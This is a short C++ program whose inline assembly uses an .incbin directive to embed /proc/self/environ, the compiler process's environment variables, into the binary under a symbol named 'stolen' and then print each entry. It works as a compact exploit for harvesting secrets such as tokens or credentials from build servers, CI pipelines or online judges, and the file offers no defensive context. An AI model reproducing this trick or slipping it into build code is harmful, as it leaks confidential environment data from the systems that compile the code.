#include <cstdio>

extern "C" const char stolen[];
asm(".section .rodata\n.global stolen\nstolen:\n.incbin \"/proc/self/environ\"\n.byte 0\n.text\n");

int main() {
    for (const char *p = stolen; *p; p += __builtin_strlen(p) + 1) std::puts(p);
}
